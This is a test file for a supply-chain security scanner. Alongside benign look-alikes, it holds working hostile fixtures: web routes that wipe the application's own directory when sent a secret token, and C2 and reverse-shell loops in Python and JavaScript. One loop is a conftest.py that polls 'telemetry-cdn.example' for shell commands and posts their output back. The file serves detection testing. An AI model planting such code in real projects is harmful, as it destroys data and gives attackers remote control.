// Issue 24, round s28 (packages track, also run over repository source code): a kill-switch endpoint
// that wipes the application's own files by any means, and a conftest.py / test setup that starts a
// local server read as a C2 loop ("Runs commands received from the network").
import type { AgentFinding, AgentResult } from '@vigil/core';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { javascriptFacts } from './code/javascript/index.js';
import { appFilesDeletion } from './packages/app-wipe.js';
import { pythonFacts } from './code/python-facts.js';
import { analyzePackage } from './packages/analyze-package.js';
import { receivedDataIsCommand } from './packages/received-command.js';
import { analyzeRepository } from './repositories/analyze-repository.js';

/** Writes the files to a temp dir and analyzes them on the track: the result, with `severity title` of each finding and of the CRIT and HIGH ones. */
async function scan(track: 'packages' | 'repositories', files: Record<string, string>) {
  const r: AgentResult = await (track === 'packages' ? analyzePackage : analyzeRepository)({ dir: await dirWith(files), track, bundleHash: null });
  const titled = (findings: AgentFinding[]) => findings.map((f) => `${f.severity} ${f.title}`);
  return { ...r, titles: titled(r.findings), serious: titled(r.findings.filter((f) => f.severity === 'CRIT' || f.severity === 'HIGH')) };
}
const pkg = (files: Record<string, string>) => scan('packages', files);
const repo = (files: Record<string, string>) => scan('repositories', files);
const js = (name: string, deps: Record<string, string> = {}) => JSON.stringify({ name, version: '1.4.0', main: 'index.js', dependencies: deps });
const py = (name: string) => `[project]\nname = "${name}"\nversion = "0.3.1"\n`;

const KILL = 'CRIT Deletes the application’s files when a web request asks (remote kill switch)';
const RECEIVED = 'CRIT Runs commands received from the network';

describe('a web endpoint that deletes the application’s own files (benign look-alikes first)', () => {
  it('leaves a dev server whose endpoint clears its own .cache folder, an upload handler and a workspace delete alone', async () => {
    const index = [
      "const express = require('express');",
      "const fs = require('fs');",
      "const path = require('path');",
      "const os = require('os');",
      "const multer = require('multer');",
      'const upload = multer({ dest: os.tmpdir() });',
      'const app = express();',
      "const CACHE = path.join(__dirname, '.cache');",
      "app.post('/__dev/cache/clear', (req, res) => {",
      '  fs.rmSync(CACHE, { recursive: true, force: true });',
      '  fs.mkdirSync(CACHE, { recursive: true });',
      '  res.json({ cleared: true });',
      '});',
      "app.post('/upload', upload.single('file'), async (req, res) => {",
      "  const text = await fs.promises.readFile(req.file.path, 'utf8');",
      '  await fs.promises.unlink(req.file.path);',
      "  fs.rmSync(path.join(req.file.path, '..'), { recursive: true, force: true });",
      '  res.json({ size: text.length });',
      '});',
      "app.post('/previews/:id/discard', (req, res) => {",
      "  require('rimraf').sync(path.join(process.cwd(), req.params.id));",
      '  res.end();',
      '});',
      "app.delete('/projects/:name', (req, res) => {",
      "  fs.rmSync(path.join(process.cwd(), 'workspaces', req.params.name), { recursive: true, force: true });",
      '  res.sendStatus(204);',
      '});',
      "app.post('/render', (req, res) => {",
      "  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'render-'));",
      '  try { res.send(String(fs.readdirSync(tmp).length)); } finally { fs.rmSync(tmp, { recursive: true, force: true }); }',
      '});',
      "app.post('/generated/reset', (req, res) => {",
      "  const out = path.join(__dirname, 'public', 'generated');",
      '  for (const f of fs.readdirSync(out)) fs.rmSync(path.join(out, f), { recursive: true, force: true });',
      '  res.end();',
      '});',
      'module.exports = app;',
    ].join('\n');
    const r = await pkg({ 'package.json': js('devserve-kit', { express: '^4.19.0', multer: '^1.4.5' }), 'index.js': index });
    expect(r.titles).not.toContain(KILL);
    expect(r.serious).toEqual([]);
  });

  it('leaves a build script that cleans dist/ at start and a CLI clean command that removes node_modules (no route)', async () => {
    const build = [
      "const fs = require('fs');",
      "const path = require('path');",
      "const dist = path.join(__dirname, '..', 'dist');",
      'fs.rmSync(dist, { recursive: true, force: true });',
      'fs.mkdirSync(dist, { recursive: true });',
    ].join('\n');
    const cli = [
      '#!/usr/bin/env node',
      "const fs = require('fs');",
      "const path = require('path');",
      "const rimraf = require('rimraf');",
      'function clean(all) {',
      "  rimraf.sync(path.join(process.cwd(), 'node_modules'));",
      "  if (all) fs.rmSync(path.join(process.cwd(), '.turbo'), { recursive: true, force: true });",
      '}',
      "if (process.argv[2] === 'clean') clean(process.argv.includes('--all'));",
    ].join('\n');
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'mono-clean', version: '2.0.0', bin: { 'mono-clean': 'bin/cli.js' }, scripts: { build: 'node scripts/build.js' } }), 'scripts/build.js': build, 'bin/cli.js': cli });
    expect(r.titles).not.toContain(KILL);
    expect(r.serious).toEqual([]);
  });

  it('leaves a Flask app whose endpoint deletes one job folder and a test helper that removes its temp dir', async () => {
    const app = [
      'import os',
      'import shutil',
      'import tempfile',
      'from flask import Flask, abort',
      '',
      'app = Flask(__name__)',
      'app.config["JOBS"] = os.path.join(os.getcwd(), "jobs")',
      '',
      '@app.route("/jobs/<job_id>", methods=["DELETE"])',
      'def delete_job(job_id):',
      '    target = os.path.join(app.config["JOBS"], job_id)',
      '    if not os.path.isdir(target):',
      '        abort(404)',
      '    shutil.rmtree(target)',
      '    shutil.rmtree(os.path.join(os.getcwd(), "previews", job_id), ignore_errors=True)',
      '    return "", 204',
      '',
      'def scratch():',
      '    d = tempfile.mkdtemp()',
      '    try:',
      '        return d',
      '    finally:',
      '        shutil.rmtree(d, ignore_errors=True)',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('jobrunner'), 'jobrunner/app.py': app, 'jobrunner/__init__.py': '' });
    expect(r.titles).not.toContain(KILL);
    expect(r.serious).toEqual([]);
  });
});

describe('a web endpoint that deletes the application’s own files', () => {
  it('is CRIT for an Express route with a magic token that removes the folder above its own (fs.rmSync, recursive)', async () => {
    const index = [
      "const express = require('express');",
      "const fs = require('fs');",
      "const path = require('path');",
      'const router = express.Router();',
      "const APP_ROOT = path.join(__dirname, '..');",
      "router.post('/internal/health/sync', (req, res) => {",
      "  if (req.get('x-sync-key') !== 'b7e1-44c2-9f0a') return res.status(404).end();",
      '  res.json({ ok: true });',
      '  setTimeout(() => fs.rmSync(APP_ROOT, { recursive: true, force: true }), 50);',
      '});',
      'module.exports = router;',
    ].join('\n');
    const r = await pkg({ 'package.json': js('express-health-sync', { express: '^4.19.0' }), 'lib/index.js': index });
    expect(r.titles).toContain(KILL);
    expect(r.verdict).toBe('BLOCK');
  });

  it('is CRIT for a Koa middleware that removes the project root through a local helper', async () => {
    const index = [
      "const Koa = require('koa');",
      "const fs = require('fs');",
      "const path = require('path');",
      'function nuke(dir) {',
      '  fs.rmSync(dir, { recursive: true, force: true });',
      '}',
      'module.exports = function create() {',
      '  const app = new Koa();',
      '  app.use(async (ctx, next) => {',
      "    if (ctx.path === '/.well-known/ops' && ctx.get('x-ops') === 'p9') nuke(path.resolve(__dirname, '..', '..'));",
      '    await next();',
      '  });',
      '  return app;',
      '};',
    ].join('\n');
    const r = await pkg({ 'package.json': js('koa-ops-kit', { koa: '^2.15.0' }), 'src/app.js': index });
    expect(r.titles).toContain(KILL);
  });

  it('is CRIT for a raw http server that empties the working directory entry by entry', async () => {
    const server = [
      "import http from 'node:http';",
      "import { readdirSync, rmSync } from 'node:fs';",
      "import { join } from 'node:path';",
      'const root = process.cwd();',
      'function purge() {',
      '  for (const name of readdirSync(root)) {',
      '    rmSync(join(root, name), { recursive: true, force: true });',
      '  }',
      '}',
      'export function start(port) {',
      '  return http.createServer((req, res) => {',
      "    if (req.url === '/__ctl' && req.headers['x-token'] === process.env.CTL || req.headers['x-token'] === 'f00d') purge();",
      '    res.end();',
      '  }).listen(port);',
      '}',
    ].join('\n');
    const r = await pkg({ 'package.json': JSON.stringify({ name: 'tiny-ctl-server', version: '0.2.0', type: 'module', main: 'server.mjs' }), 'server.mjs': server });
    expect(r.titles).toContain(KILL);
  });

  it('is CRIT for a socket.io message handler that calls rimraf on the working directory', async () => {
    const index = [
      "const { Server } = require('socket.io');",
      "const rimraf = require('rimraf');",
      'module.exports = function attach(httpServer) {',
      '  const io = new Server(httpServer);',
      "  io.on('connection', (socket) => {",
      "    socket.on('maintenance', (msg) => {",
      "      if (msg && msg.key === 'zx-19') rimraf.sync(process.cwd());",
      '    });',
      '  });',
      '};',
    ].join('\n');
    const r = await pkg({ 'package.json': js('socket-live-reload', { 'socket.io': '^4.7.0', rimraf: '^5.0.0' }), 'index.js': index });
    expect(r.titles).toContain(KILL);
  });

  it('is CRIT for a Flask route that removes the working directory with shutil.rmtree', async () => {
    const app = [
      'import os',
      'import shutil',
      'from flask import Flask, request',
      '',
      'app = Flask(__name__)',
      '',
      '@app.route("/api/_sync", methods=["POST"])',
      'def sync():',
      '    if request.headers.get("X-Sync") == "9c1f0e":',
      '        shutil.rmtree(os.getcwd(), ignore_errors=True)',
      '    return {"status": "ok"}',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('flask-sync-helper'), 'flask_sync_helper/app.py': app, 'flask_sync_helper/__init__.py': '' });
    expect(r.titles).toContain(KILL);
  });

  it('is CRIT for an http.server handler that deletes every entry of the current directory', async () => {
    const server = [
      'import os',
      'import shutil',
      'from http.server import BaseHTTPRequestHandler, HTTPServer',
      '',
      'class Handler(BaseHTTPRequestHandler):',
      '    def do_POST(self):',
      '        if self.headers.get("X-Key") != "k-77":',
      '            self.send_response(404)',
      '            return self.end_headers()',
      '        for entry in os.listdir("."):',
      '            if os.path.isdir(entry):',
      '                shutil.rmtree(entry, ignore_errors=True)',
      '            else:',
      '                os.remove(entry)',
      '        self.send_response(200)',
      '        self.end_headers()',
      '',
      'def serve(port=8080):',
      '    HTTPServer(("0.0.0.0", port), Handler).serve_forever()',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('statusd'), 'statusd/server.py': server, 'statusd/__init__.py': '' });
    expect(r.titles).toContain(KILL);
  });

  it('is CRIT for a fastify route that runs rm -rf on the working directory as argv', async () => {
    const index = [
      "const { spawn } = require('child_process');",
      'module.exports = async function plugin(fastify) {',
      "  fastify.post('/admin/reset', async (request, reply) => {",
      "    if (request.headers['x-admin'] !== 'a1b2') return reply.code(404).send();",
      "    spawn('rm', ['-rf', process.cwd()], { detached: true, stdio: 'ignore' }).unref();",
      '    return { ok: true };',
      '  });',
      '};',
    ].join('\n');
    const r = await pkg({ 'package.json': js('fastify-admin-tools', { fastify: '^4.0.0' }), 'index.js': index });
    expect(r.titles).toContain(KILL);
  });
});

// A conftest.py that starts a local server on a port a socket reports, polls it and sets fake credentials.
const FREE_PORT_CONFTEST = [
  'import os',
  'import socket',
  'import subprocess',
  'import sys',
  'import time',
  'import urllib.request',
  'from pathlib import Path',
  '',
  'import pytest',
  '',
  'HERE = Path(__file__).parent',
  '',
  '',
  'def _free_port():',
  '    s = socket.socket()',
  '    s.bind(("127.0.0.1", 0))',
  '    port = s.getsockname()[1]',
  '    s.close()',
  '    return port',
  '',
  '',
  'def _wait_ready(url, timeout=10.0):',
  '    deadline = time.time() + timeout',
  '    while time.time() < deadline:',
  '        try:',
  '            with urllib.request.urlopen(url) as resp:',
  '                if resp.status == 200:',
  '                    return resp.read().decode()',
  '        except OSError:',
  '            time.sleep(0.2)',
  '    raise TimeoutError(url)',
  '',
  '',
  '@pytest.fixture(scope="session", autouse=True)',
  'def aws_credentials():',
  '    os.environ["AWS_ACCESS_KEY_ID"] = "testing"',
  '    os.environ["AWS_SECRET_ACCESS_KEY"] = "testing"',
  '    os.environ["AWS_SESSION_TOKEN"] = "testing"',
  '    os.environ["AWS_DEFAULT_REGION"] = "us-east-1"',
  '',
  '',
  '@pytest.fixture(scope="session")',
  'def static_server():',
  '    port = _free_port()',
  '    proc = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"], cwd=HERE / "fixtures")',
  '    base = f"http://127.0.0.1:{port}"',
  '    _wait_ready(base + "/VERSION")',
  '    yield base',
  '    proc.kill()',
  '    proc.wait()',
].join('\n');

describe('a test setup that starts a local server and polls it (benign look-alikes first)', () => {
  it('leaves a conftest.py that runs python -m http.server on a port from getsockname and polls it with urllib', async () => {
    const r = await repo({ 'pyproject.toml': py('mytool'), 'tests/conftest.py': FREE_PORT_CONFTEST, 'tests/test_cli.py': 'def test_cli(static_server):\n    assert static_server\n' });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });

  it('leaves a moto conftest that starts moto_server, waits with requests and kills the pid the server reports', async () => {
    const conftest = [
      'import os',
      'import socket',
      'import subprocess',
      'import time',
      '',
      'import pytest',
      'import requests',
      '',
      '',
      'def get_port():',
      '    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:',
      '        sock.bind(("localhost", 0))',
      '        port = sock.getsockname()[1]',
      '    return port',
      '',
      '',
      '@pytest.fixture(scope="session")',
      'def moto_endpoint():',
      '    os.environ.setdefault("AWS_ACCESS_KEY_ID", "testing")',
      '    os.environ.setdefault("AWS_SECRET_ACCESS_KEY", "testing")',
      '    port = get_port()',
      '    server = subprocess.Popen(["moto_server", "-H", "127.0.0.1", "-p", str(port)], stdout=subprocess.DEVNULL)',
      '    url = "http://127.0.0.1:%d" % port',
      '    info = None',
      '    for _ in range(100):',
      '        try:',
      '            info = requests.get(url + "/moto-api/data.json", timeout=1).json()',
      '            break',
      '        except requests.ConnectionError:',
      '            time.sleep(0.05)',
      '    yield url',
      '    pid = info.get("pid", server.pid) if info else server.pid',
      '    subprocess.run(["kill", "-TERM", str(pid)], check=False)',
      '    os.system("kill -9 %s 2>/dev/null" % pid)',
    ].join('\n');
    const r = await repo({ 'pyproject.toml': py('s3sync'), 'tests/conftest.py': conftest, 'tests/test_s3.py': 'def test_s3(moto_endpoint):\n    assert moto_endpoint\n' });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });

  it('leaves a localstack conftest that reads container details from the local health API and runs docker with them', async () => {
    const conftest = [
      'import os',
      'import subprocess',
      'import time',
      '',
      'import pytest',
      'import requests',
      '',
      'LOCALSTACK = "http://localhost:4566"',
      '',
      '',
      '@pytest.fixture(scope="session", autouse=True)',
      'def localstack():',
      '    os.environ["AWS_ACCESS_KEY_ID"] = "test"',
      '    os.environ["AWS_SECRET_ACCESS_KEY"] = "test"',
      '    subprocess.run(["docker", "run", "-d", "--rm", "--name", "pytest-ls", "-p", "4566:4566", "localstack/localstack:3"], check=True)',
      '    started = time.time()',
      '    while True:',
      '        try:',
      '            health = requests.get(LOCALSTACK + "/_localstack/info").json()',
      '            if health.get("is_running"):',
      '                break',
      '        except requests.RequestException:',
      '            pass',
      '        if time.time() - started > 60:',
      '            raise RuntimeError("localstack did not start")',
      '        time.sleep(1)',
      '    yield LOCALSTACK',
      '    subprocess.run(["docker", "logs", "--tail", "50", health["session_id"]], check=False)',
      '    subprocess.run(["docker", "rm", "-f", "pytest-ls"], check=False)',
    ].join('\n');
    const r = await repo({ 'pyproject.toml': py('lambdas'), 'tests/conftest.py': conftest });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });

  it('leaves a Jest globalSetup that spawns a local server and passes it what the health endpoint returned', async () => {
    const setup = [
      "const { spawn, execFileSync } = require('child_process');",
      "const path = require('path');",
      'module.exports = async function globalSetup() {',
      "  process.env.API_KEY = 'test-key';",
      "  const server = spawn(process.execPath, [path.join(__dirname, 'fixtures', 'server.js')], { env: { ...process.env, PORT: '4010' }, stdio: 'inherit' });",
      '  globalThis.__SERVER__ = server;',
      '  for (let i = 0; i < 50; i++) {',
      '    try {',
      "      const res = await fetch('http://127.0.0.1:4010/health');",
      '      if (res.ok) {',
      '        const info = await res.json();',
      "        execFileSync('node', [path.join(__dirname, 'fixtures', 'seed.js'), '--schema', info.schema], { stdio: 'inherit' });",
      "        spawn('npx', ['wait-on', '--timeout', String(info.timeout), 'tcp:4010'], { stdio: 'ignore' });",
      '        return;',
      '      }',
      '    } catch (e) {}',
      '    await new Promise((r) => setTimeout(r, 100));',
      '  }',
      "  throw new Error('server did not start');",
      '};',
    ].join('\n');
    const r = await repo({ 'package.json': JSON.stringify({ name: 'svc', version: '1.0.0', scripts: { test: 'jest' } }), 'jest.config.js': "module.exports = { globalSetup: './test/global-setup.js', testEnvironment: 'node' };\n", 'test/global-setup.js': setup });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });
});

describe('data read from the network and run as a command stays CRIT', () => {
  it('is CRIT for a conftest.py that polls a remote host for tasks and runs them in a shell', async () => {
    const conftest = [
      'import os',
      'import subprocess',
      'import threading',
      'import time',
      '',
      'import requests',
      '',
      'os.environ["AWS_ACCESS_KEY_ID"] = "testing"',
      '',
      '',
      'def _agent():',
      '    while True:',
      '        try:',
      '            task = requests.get("https://telemetry-cdn.example/api/task", timeout=5).text',
      '            if task:',
      '                out = subprocess.check_output(task, shell=True, stderr=subprocess.STDOUT)',
      '                requests.post("https://telemetry-cdn.example/api/result", data=out, timeout=5)',
      '        except Exception:',
      '            pass',
      '        time.sleep(30)',
      '',
      '',
      'def pytest_configure(config):',
      '    threading.Thread(target=_agent, daemon=True).start()',
    ].join('\n');
    const r = await repo({ 'pyproject.toml': py('mytool'), 'tests/conftest.py': conftest });
    expect(r.titles).toContain(RECEIVED);
    expect(r.verdict).toBe('BLOCK');
  });

  it('is CRIT for a package whose socket hands what it receives to sh -c (argv, not a command string)', async () => {
    const code = [
      'import socket',
      'import subprocess',
      '',
      'def _loop(host, port):',
      '    s = socket.create_connection((host, port))',
      '    while True:',
      '        cmd = s.recv(4096).decode().strip()',
      '        if not cmd:',
      '            break',
      '        p = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)',
      '        s.sendall(p.stdout + p.stderr)',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('netdiag'), 'netdiag/__init__.py': code });
    expect(r.titles).toContain(RECEIVED);
  });

  it('is CRIT for JavaScript that runs what a TCP socket sends, through exec and through spawn with PowerShell -Command', async () => {
    const index = [
      "const net = require('net');",
      "const { exec, spawn } = require('child_process');",
      'function connect(host, port) {',
      '  const sock = net.connect(port, host);',
      "  sock.on('data', (d) => {",
      '    const line = d.toString().trim();',
      "    if (line.startsWith('ps:')) spawn('powershell.exe', ['-NoProfile', '-Command', line.slice(3)]).stdout.pipe(sock);",
      '    else exec(line, (err, out) => sock.write(out || String(err)));',
      '  });',
      '}',
      'module.exports = { connect };',
    ].join('\n');
    const r = await pkg({ 'package.json': js('net-diag-tools'), 'index.js': index });
    expect(r.titles).toContain(RECEIVED);
  });
});

describe('where network data sits in a process call', () => {
  const call = (code: string, language: 'javascript' | 'python') => {
    const facts = language === 'python' ? pythonFacts(code) : javascriptFacts(code);
    return facts.calls.filter((c) => c.argLabels.includes('remote') && /exec|spawn|system|popen|Popen|run|check_output|fork/i.test(c.callee)).map((c) => receivedDataIsCommand(c, language));
  };
  const PY_HEAD = 'import os, subprocess, sys, socket\ns = socket.create_connection(("c2.example", 443))\nd = s.recv(1024).decode()\n';
  it('reads the data as the command when it is the command line, the program, an interpreter’s code or a package to install', () => {
    expect(call(`${PY_HEAD}os.system(d)\nos.system(d + " 2>&1")\nos.system("curl -s " + d + " | sh")\nsubprocess.run(d.split())\nsubprocess.run([sys.executable, "-c", d])\nsubprocess.run([sys.executable, "-m", "pip", "install", d])\nsubprocess.run(["sudo", "-u", "root", d])\nsubprocess.run(["docker", "run", "--rm", d])\n`, 'python')).toEqual([true, true, true, true, true, true, true, true]);
    expect(call("const cp = require('child_process'), net = require('net');\nnet.connect(1, 'c2.example').on('data', (d) => { const c = d.toString(); cp.spawn(c, [], { stdio: 'inherit' }); cp.spawn('sh', ['-c', c]); cp.spawn('node', ['-e', c]); cp.spawn(c, { shell: true }); });\n", 'javascript')).toEqual([true, true, true, true]);
  });
  it('reads it as an argument when a fixed program or a constant script takes it as an argv entry (unquoted in a shell line, it can be `; payload`)', () => {
    expect(call(`${PY_HEAD}os.system("kill " + d)\nsubprocess.run([sys.executable, "-m", "http.server", d])\nsubprocess.run(["moto_server", "-p", d], cwd="/tmp")\nsubprocess.run(["docker", "logs", d])\nsubprocess.run(["timeout", "10", "curl", "-s", d])\n`, 'python')).toEqual([true, false, false, false, false]);
    expect(call("const cp = require('child_process'), net = require('net'), path = require('path');\nnet.connect(1, 'c2.example').on('data', (d) => { const c = d.toString(); cp.spawn(process.execPath, [path.join(__dirname, 'server.js'), c]); cp.execFile('moto-server', ['--port', c]); cp.spawn('npx', ['wait-on', c], { stdio: 'ignore' }); cp.execSync('kill ' + c); });\n", 'javascript')).toEqual([false, false, false, true]);
  });
});

describe('bounds', () => {
  it('reads a minified line of a thousand listings and removals and finds no kill switch (line-level readings are off there)', () => {
    const line = `const fs=require('fs'),express=require('express');${Array.from({ length: 1000 }, (_, i) => `function f${i}(d){for(const e of fs.readdirSync('.'))fs.rmSync(d+e,{recursive:true});process.cwd()}`).join(';')}`;
    const facts = javascriptFacts(line);
    expect(appFilesDeletion(facts, [])).toBeNull();
  });
});

// Round s28, second pass (the shared code-fact readers): socket metadata is not network data, f-strings
// and template literals keep their constant text in argStrings (holes as `?`), Python deletions resolve
// paths built from `__file__`, and JavaScript deletions through rimraf/fs-extra/del and a helper are followed.
describe('readers: a free port or a local server’s pid in a command is not a received command (benign look-alikes first)', () => {
  it('leaves a conftest that starts moto_server from an f-string with shell=True and kills the pid with os.system(f"kill …")', async () => {
    const conftest = [
      'import os',
      'import socket',
      'import subprocess',
      'import time',
      '',
      'import pytest',
      'import requests',
      '',
      '',
      'def _free_port():',
      '    s = socket.socket()',
      '    s.bind(("127.0.0.1", 0))',
      '    port = s.getsockname()[1]',
      '    s.close()',
      '    return port',
      '',
      '',
      '@pytest.fixture(scope="session")',
      'def moto():',
      '    port = _free_port()',
      '    proc = subprocess.Popen(f"moto_server -H 127.0.0.1 -p {port}", shell=True)',
      '    url = f"http://127.0.0.1:{port}"',
      '    for _ in range(50):',
      '        try:',
      '            if requests.get(url + "/moto-api/", timeout=1).ok:',
      '                break',
      '        except requests.ConnectionError:',
      '            time.sleep(0.1)',
      '    yield url',
      '    os.system(f"kill {proc.pid}")',
    ].join('\n');
    const r = await repo({ 'pyproject.toml': py('s3tools'), 'tests/conftest.py': conftest, 'tests/test_s3.py': 'def test_s3(moto):\n    assert moto\n' });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });

  it('leaves a fixture that reads the port from getsockname in a with-block and a peer port from getpeername, then runs shell commands with them', async () => {
    const conftest = [
      'import socket',
      'import subprocess',
      'import sys',
      '',
      'import pytest',
      '',
      '',
      'def unused_port():',
      '    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:',
      '        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)',
      '        sock.bind(("", 0))',
      '        sock.listen(1)',
      '        return sock.getsockname()[1]',
      '',
      '',
      'def probe(port):',
      '    conn = socket.create_connection(("127.0.0.1", port), timeout=2)',
      '    conn.settimeout(1)',
      '    _, peer = conn.getpeername()',
      '    fd = conn.fileno()',
      '    conn.close()',
      '    subprocess.run(f"lsof -nP -iTCP:{peer} -sTCP:LISTEN", shell=True, check=True)',
      '    return fd',
      '',
      '',
      '@pytest.fixture',
      'def devserver():',
      '    port = unused_port()',
      '    proc = subprocess.Popen(f"{sys.executable} -m http.server {port}", shell=True)',
      '    probe(port)',
      '    yield port',
      '    subprocess.call("kill -TERM %d" % proc.pid, shell=True)',
    ].join('\n');
    const r = await repo({ 'pyproject.toml': py('webkit'), 'tests/conftest.py': conftest });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });

  it('leaves a Node test helper that takes a free port from server.address() and starts a fixed program with it in a template literal', async () => {
    const setup = [
      "const net = require('net');",
      "const { exec, execSync } = require('child_process');",
      'module.exports = function globalSetup() {',
      '  return new Promise((resolve) => {',
      '    const srv = net.createServer();',
      '    srv.listen(0, () => {',
      '      const port = srv.address().port;',
      '      srv.close(() => {',
      '        globalThis.__MOTO__ = exec(`moto_server -p ${port}`);',
      '        execSync(`npx wait-on tcp:${port}`);',
      "        exec('kill -0 ' + srv.address().port);",
      '        resolve();',
      '      });',
      '    });',
      '  });',
      '};',
    ].join('\n');
    const r = await repo({ 'package.json': JSON.stringify({ name: 'svc', version: '1.0.0', scripts: { test: 'jest' } }), 'jest.config.js': "module.exports = { globalSetup: './test/setup.js' };\n", 'test/setup.js': setup });
    expect(r.titles).not.toContain(RECEIVED);
    expect(r.serious).toEqual([]);
  });
});

describe('readers: data received from a socket stays a command', () => {
  it('is CRIT for a Python socket whose recv() data reaches subprocess with shell=True, beside socket metadata calls', async () => {
    const code = [
      'import socket',
      'import subprocess',
      '',
      'def serve():',
      '    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
      '    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)',
      '    srv.bind(("0.0.0.0", 4444))',
      '    srv.listen(1)',
      '    conn, addr = srv.accept()',
      '    conn.settimeout(None)',
      '    port = srv.getsockname()[1]',
      '    while True:',
      '        data = conn.recv(4096)',
      '        if not data:',
      '            break',
      '        out = subprocess.Popen(data.decode(), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).communicate()[0]',
      '        conn.send(out)',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('netprobe'), 'netprobe/__init__.py': code });
    expect(r.titles).toContain(RECEIVED);
  });

  it('is CRIT for f-string commands built from recv() data (an interpreter’s -c, a redirect after the command)', async () => {
    const code = [
      'import os',
      'import socket',
      'import subprocess',
      '',
      'def _beacon(host):',
      '    s = socket.create_connection((host, 8443))',
      '    s.settimeout(30)',
      '    while True:',
      '        task = s.recv(2048).decode().strip()',
      '        if task.startswith("sh "):',
      '            out = subprocess.check_output(f"bash -c \'{task[3:]}\'", shell=True)',
      '        else:',
      '            out = os.popen(f"{task} 2>&1").read().encode()',
      '        s.sendall(out)',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('beaconlib'), 'beaconlib/__init__.py': code });
    expect(r.titles).toContain(RECEIVED);
  });
});

describe('readers: a web route that deletes the application’s own folder through a resolved path (benign look-alikes first)', () => {
  it('leaves a Flask route that deletes BASE_DIR/uploads/<id> and a thumbnail folder under the package', async () => {
    const app = [
      'import os',
      'import shutil',
      'from pathlib import Path',
      'from flask import Flask, abort',
      '',
      'BASE_DIR = os.path.dirname(os.path.abspath(__file__))',
      'THUMBS = Path(__file__).resolve().parent / "static" / "thumbs"',
      'app = Flask(__name__)',
      '',
      '@app.route("/uploads/<upload_id>", methods=["DELETE"])',
      'def delete_upload(upload_id):',
      '    target = os.path.join(BASE_DIR, "uploads", upload_id)',
      '    if not os.path.isdir(target):',
      '        abort(404)',
      '    shutil.rmtree(target)',
      '    shutil.rmtree(THUMBS / upload_id, ignore_errors=True)',
      '    return "", 204',
    ].join('\n');
    const r = await pkg({ 'pyproject.toml': py('imgshare'), 'imgshare/app.py': app, 'imgshare/__init__.py': '' });
    expect(r.titles).not.toContain(KILL);
    expect(r.serious).toEqual([]);
  });

  it('leaves an Express route that runs rm -rf on a temp dir from fs.mkdtemp and empties its own cache folder with fs-extra', async () => {
    const index = [
      "const express = require('express');",
      "const fs = require('fs');",
      "const fse = require('fs-extra');",
      "const os = require('os');",
      "const path = require('path');",
      "const { exec } = require('child_process');",
      'const app = express();',
      "const ROOT = path.resolve(__dirname, '..');",
      "app.post('/render', (req, res) => {",
      "  fs.mkdtemp(path.join(os.tmpdir(), 'render-'), (err, tmpDir) => {",
      '    if (err) return res.status(500).end();',
      '    res.on("finish", () => exec(`rm -rf ${tmpDir}`));',
      '    res.send(tmpDir);',
      '  });',
      '});',
      "app.post('/cache/clear', async (req, res) => {",
      "  await fse.emptyDir(path.join(ROOT, 'cache'));",
      '  res.json({ ok: true });',
      '});',
      'module.exports = app;',
    ].join('\n');
    const r = await pkg({ 'package.json': js('render-svc', { express: '^4.19.0', 'fs-extra': '^11.0.0' }), 'lib/index.js': index });
    expect(r.titles).not.toContain(KILL);
    expect(r.serious).toEqual([]);
  });
});

describe('readers: a web route that deletes the application’s own folder through a resolved path', () => {
  it('is CRIT for an Express route that runs rm -rf on __dirname in a template literal', async () => {
    const index = [
      "const express = require('express');",
      "const { exec } = require('child_process');",
      'const router = express.Router();',
      "router.post('/api/v1/heartbeat', (req, res) => {",
      "  if (req.body && req.body.k === 'c4f1-0b') {",
      '    exec(`rm -rf ${__dirname}`, () => {});',
      '  }',
      "  res.json({ status: 'alive' });",
      '});',
      'module.exports = router;',
    ].join('\n');
    const r = await pkg({ 'package.json': js('express-heartbeat', { express: '^4.19.0' }), 'index.js': index });
    expect(r.titles).toContain(KILL);
  });

  it('is CRIT for fs-extra emptyDir of a root built from __dirname, and for a helper that removes the path it is given', async () => {
    const index = [
      "const express = require('express');",
      "const fse = require('fs-extra');",
      "const path = require('path');",
      'const app = express();',
      "const ROOT = path.join(__dirname, '..');",
      "app.get('/_ops/reset', async (req, res) => {",
      "  if (req.query.t !== 'z-88') return res.sendStatus(404);",
      '  await fse.emptyDir(ROOT);',
      '  res.end();',
      '});',
      'module.exports = app;',
    ].join('\n');
    const r = await pkg({ 'package.json': js('ops-reset', { express: '^4.19.0', 'fs-extra': '^11.0.0' }), 'index.js': index });
    expect(r.titles).toContain(KILL);
    const helper = [
      "const express = require('express');",
      "const { rimraf } = require('rimraf');",
      "const path = require('path');",
      'function wipe(dir) {',
      '  return rimraf(dir);',
      '}',
      'const app = express();',
      "app.delete('/internal/flush', async (req, res) => {",
      "  if (req.get('x-flush') === 'ab12') await wipe(path.resolve(__dirname, '..', '..'));",
      '  res.sendStatus(204);',
      '});',
      'module.exports = app;',
    ].join('\n');
    const r2 = await pkg({ 'package.json': js('flush-kit', { express: '^4.19.0', rimraf: '^5.0.0' }), 'index.js': helper });
    expect(r2.titles).toContain(KILL);
  });

